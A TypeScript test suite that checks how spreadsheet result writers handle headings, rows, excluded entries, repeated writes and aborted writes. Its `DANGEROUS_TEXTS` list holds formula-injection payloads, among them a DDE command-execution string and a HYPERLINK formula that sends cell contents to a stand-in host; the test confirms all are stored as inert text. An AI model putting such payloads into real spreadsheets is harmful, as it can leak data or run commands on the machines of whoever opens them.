/** What every place for results promises, whatever it is: call `describeSink` with one and with a way to read it back. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { ExcludedRow, ResultRow, ResultSheet, ResultSink } from '../../src/results/sink.ts';

export type SeenCell = string | number | boolean | Date | null;

/** What a person would see there. Rows end at their last cell with something in it. */
export interface SeenResults {
  /** The campaign's title, and over which columns it stands, from 1. */
  readonly title: { readonly text: string; readonly from: number; readonly to: number };
  readonly headings: readonly SeenCell[];
  readonly rows: readonly (readonly SeenCell[])[];
  readonly excludedHeadings: readonly SeenCell[];
  readonly excluded: readonly (readonly SeenCell[])[];
  /** Cells that the place would compute. */
  readonly formulas: number;
}

export interface SinkUnderTest {
  readonly sink: ResultSink;
  /** A target that nothing has been written to; a place that holds the manager's rows holds those of the sheet. */
  readonly target: string;
}

/** What a formula in a spreadsheet can begin with, and what programs take for it. */
export const DANGEROUS_TEXTS = [
  '=1+1',
  '=HYPERLINK("http://example.test/?"&A1,"open")',
  '=IMPORTXML("http://example.test","//a")',
  "=cmd|' /C calc'!A0",
  '+79000001234',
  '-1-1',
  '-',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋7 900',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  '{=1+1}',
  '#N/A',
  'TRUE',
  '1E5',
  '2026-11-23',
  '0012',
];

const AT = new Date('2026-11-23T07:05:09Z');

export function resultSheet(parts: {
  readonly headings?: readonly string[];
  readonly rows?: readonly ResultRow[];
  readonly excluded?: readonly ExcludedRow[];
}): ResultSheet {
  const { headings = ['Телефон', 'Name', 'Сумма'], rows = [], excluded = [] } = parts;
  return {
    campaign: '12',
    source: { kind: 'file', ref: 'people.xlsx', tab: 'People' },
    group: 'Autumn offer, 23 Nov 2026',
    tab: 'Results',
    excludedTab: 'Left out',
    headings,
    columns: ['Status', 'Parts', 'Cost', 'Time'],
    kinds: ['text', 'count', 'money', 'time'],
    excludedColumns: ['Row', 'Reason'],
    countColumn: 'Rows',
    async *rows() {
      yield* rows;
    },
    async *excluded() {
      yield* excluded;
    },
  };
}

const delivered: ResultRow = {
  key: 'r4',
  number: 4,
  cells: ['+79000001234', "O'Brien", 12.5],
  values: ['delivered', 2, 4.7, AT],
};
const waiting: ResultRow = {
  key: 'r5',
  number: 5,
  cells: ['8 999 000-00-07', null, 0],
  values: ['queued', 1, null, null],
};
const leftOut: ExcludedRow = { number: 9, cells: ['12345', 'Ёлкин', true], reason: 'too short for a phone number' };

/** Line ends may be written in one way only; an empty text is an empty cell. */
const asSeen = (text: string): string | null => text.replace(/\r\n?/g, '\n') || null;

const ended = (cells: readonly SeenCell[]): readonly SeenCell[] =>
  cells.slice(0, cells.findLastIndex((cell) => cell !== null) + 1);

export function describeSink(
  name: string,
  make: (...sheets: readonly ResultSheet[]) => Promise<SinkUnderTest>,
  readBack: (target: string) => Promise<SeenResults>,
): void {
  const never = new AbortController().signal;
  const writeAndRead = async (sheet: ResultSheet) => {
    const { sink, target } = await make(sheet);
    const report = await sink.write(target, sheet, never);
    return { report, target, seen: await readBack(target) };
  };

  describe(`${name} as a place for results`, () => {
    test("keeps the manager's columns and sets the campaign's beside them, under its title", async () => {
      const { report, target, seen } = await writeAndRead(
        resultSheet({ rows: [delivered, waiting], excluded: [leftOut] }),
      );
      expect(report).toEqual({ kind: 'written', target, rows: 2, excluded: 1 });
      expect(seen.title).toEqual({ text: 'Autumn offer, 23 Nov 2026', from: 4, to: 7 });
      expect(seen.headings).toEqual(['Телефон', 'Name', 'Сумма', 'Status', 'Parts', 'Cost', 'Time']);
      expect(seen.rows).toEqual([
        ['+79000001234', "O'Brien", 12.5, 'delivered', 2, 4.7, AT],
        ['8 999 000-00-07', null, 0, 'queued', 1],
      ]);
    });

    test('lists every row left out with its number and its reason', async () => {
      const { seen } = await writeAndRead(resultSheet({ rows: [delivered], excluded: [leftOut] }));
      expect(seen.excludedHeadings).toEqual(['Row', 'Reason', 'Телефон', 'Name', 'Сумма']);
      expect(seen.excluded).toEqual([[9, 'too short for a phone number', '12345', 'Ёлкин', true]]);
    });

    test('writes headings though there are no rows', async () => {
      const { report, seen } = await writeAndRead(resultSheet({}));
      expect(report).toMatchObject({ kind: 'written', rows: 0, excluded: 0 });
      expect(seen.headings).toHaveLength(7);
      expect(seen.excludedHeadings).toHaveLength(5);
      expect([...seen.rows, ...seen.excluded]).toEqual([]);
    });

    test("never lets a row run over into the campaign's columns, nor fall short of them", async () => {
      const long: ResultRow = {
        key: 'r2',
        number: 2,
        cells: ['1', '2', '3', 'a stray note'],
        values: ['delivered', 1, 2, AT],
      };
      const short: ResultRow = { key: 'r3', number: 3, cells: ['1'], values: ['queued'] };
      const { seen } = await writeAndRead(resultSheet({ rows: [long, short] }));
      expect(seen.rows).toEqual([
        ['1', '2', '3', 'delivered', 1, 2, AT],
        ['1', null, null, 'queued'],
      ]);
    });

    test('replaces what the same campaign wrote before, so that writing can be repeated', async () => {
      const more = [6, 7].map((number) => ({ ...delivered, key: `r${number}`, number }));
      const first = resultSheet({ rows: [delivered, ...more], excluded: [leftOut] });
      const second = resultSheet({ rows: [waiting] });
      const { sink, target } = await make(first, second);
      await sink.write(target, first, never);
      await sink.write(target, second, never);
      const seen = await readBack(target);
      expect(seen.rows.map((row) => row[3])).toEqual(['queued']);
      expect(seen.excluded).toEqual([]);
    });

    test.each(DANGEROUS_TEXTS)('takes %j as text wherever a person may have written it', async (text) => {
      const { seen } = await writeAndRead(
        resultSheet({
          headings: [text, 'Name', 'Сумма'],
          rows: [{ key: 'r2', number: 2, cells: [text, 'x', null], values: [text, 1, 1, AT] }],
          excluded: [{ number: 3, cells: [text], reason: text }],
        }),
      );
      const kept = asSeen(text);
      expect(seen.formulas).toBe(0);
      expect(seen.headings[0]).toBe(kept);
      expect(seen.rows[0]?.slice(0, 4)).toEqual([kept, 'x', null, kept]);
      expect(seen.excluded[0]?.slice(1)).toEqual([kept, kept]);
    });

    test('gives back any text as it was', async () => {
      const anyRow = fc.tuple(fc.string({ unit: 'grapheme' }), fc.string({ unit: 'grapheme' }), fc.boolean());
      await fc.assert(
        fc.asyncProperty(fc.array(anyRow, { maxLength: 20 }), async (rows) => {
          const { seen } = await writeAndRead(
            resultSheet({
              rows: rows.map((cells, index) => ({
                key: `r${index + 2}`,
                number: index + 2,
                cells,
                values: ['queued'],
              })),
            }),
          );
          expect(seen.formulas).toBe(0);
          expect(seen.rows).toEqual(rows.map(([a, b, c]) => [asSeen(a), asSeen(b), c, 'queued']));
        }),
        { numRuns: 15 },
      );
    });

    test('writes nothing when it is told to stop before it begins', async () => {
      const before = resultSheet({ rows: [delivered] });
      const { sink, target } = await make(before, resultSheet({ rows: [waiting] }));
      await sink.write(target, before, never);
      const report = await sink.write(target, resultSheet({ rows: [waiting] }), AbortSignal.abort());
      expect(report).toEqual({ kind: 'failed', why: 'aborted' });
      expect((await readBack(target)).rows.map((row) => row[3])).toEqual(['delivered']);
    });

    test('leaves what was there when it is told to stop midway, though the next row never comes', async () => {
      const before = resultSheet({ rows: [delivered] });
      const { sink, target } = await make(before, resultSheet({ rows: [waiting] }));
      await sink.write(target, before, never);
      const stop = new AbortController();
      const stalled: ResultSheet = {
        ...resultSheet({}),
        async *rows() {
          yield waiting;
          stop.abort();
          await new Promise(() => {});
        },
      };
      expect(await sink.write(target, stalled, stop.signal)).toEqual({ kind: 'failed', why: 'aborted' });
      expect((await readBack(target)).rows.map((row) => row[3])).toEqual(['delivered']);
    });

    test('leaves what was there when the rows cannot be read to their end, and says so to who asked', async () => {
      const before = resultSheet({ rows: [delivered] });
      const { sink, target } = await make(before, resultSheet({ rows: [waiting] }));
      await sink.write(target, before, never);
      const broken: ResultSheet = {
        ...resultSheet({ rows: [waiting] }),
        // biome-ignore lint/correctness/useYield: the first read already fails
        async *excluded() {
          throw new Error('the database went away');
        },
      };
      await expect(sink.write(target, broken, never)).rejects.toThrow('the database went away');
      expect((await readBack(target)).rows.map((row) => ended(row)[3])).toEqual(['delivered']);
    });
  });
}
